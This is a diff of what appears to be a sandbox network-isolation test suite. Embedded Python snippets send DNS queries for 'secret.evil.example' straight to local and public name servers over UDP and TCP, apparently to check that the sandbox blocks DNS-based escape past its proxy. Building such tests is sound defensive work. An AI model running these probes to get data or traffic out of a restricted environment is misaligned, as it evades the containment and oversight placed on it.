@@ -59,14 +59,14 @@ def udp(address):
     family = socket.AF_INET6 if ":" in address[0] else socket.AF_INET
     with socket.socket(family, socket.SOCK_DGRAM) as s:
         s.settimeout(0.3)
-        s.sendto(b"hello", address)
+        s.sendto(query(), address)
         print(s.recv(4096))
 
 
 """
 _QUERY = r"""
-def query(server, name="secret.evil.example"):
-    labels = b"".join(bytes([len(w)]) + w.encode() for w in name.split("."))
+def query():
+    labels = b"".join(bytes([len(w)]) + w for w in b"secret.evil.example".split(b"."))
     return b"\1\2\1\0\0\1\0\0\0\0\0\0" + labels + b"\0\0\1\0\1"
 
 
@@ -191,7 +191,7 @@ for name in ("secret.evil.example", "inner.example"):
         """
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
 for server in ("127.0.0.1", "127.0.0.53", "8.8.8.8", "10.0.2.3"):
-    s.sendto(query(server), (server, 53))
+    s.sendto(query(), (server, 53))
 """,
     ),
     _direct(
@@ -201,7 +201,7 @@ for server in ("127.0.0.1", "127.0.0.53", "8.8.8.8", "10.0.2.3"):
         """
 def ask(server):
     with socket.create_connection((server, 53), 2) as s:
-        s.sendall(struct.pack("!H", len(query(server))) + query(server))
+        s.sendall(struct.pack("!H", len(query())) + query())
 
 
 each(ask, "127.0.0.1", "8.8.8.8")
@@ -509,7 +509,7 @@ _PAST = (
         "past-the-proxy-over-dns",
         "dns",
         "A guest that may reach one host must not ask name servers itself.",
-        "s = socket.socket(2, socket.SOCK_DGRAM)\ns.sendto(query(''), ('127.0.0.1', 53))\n",
+        "s = socket.socket(2, socket.SOCK_DGRAM)\ns.sendto(query(), ('127.0.0.1', 53))\n",
     ),
     _past(
         "past-the-proxy-over-mptcp",
